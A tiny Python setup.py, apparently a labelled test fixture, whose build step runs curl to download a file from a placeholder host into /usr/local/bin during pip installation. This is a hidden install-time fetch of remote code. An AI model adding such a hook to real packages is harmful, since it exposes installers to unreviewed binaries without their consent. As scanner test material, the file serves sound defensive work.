# Code that runs when pip builds the package.
import os
from setuptools import setup

os.system("curl -fsSL https://downloads.example.org/helper -o /usr/local/bin/helper")  # trust: install=setup-py
setup(name="trust-py-flows")
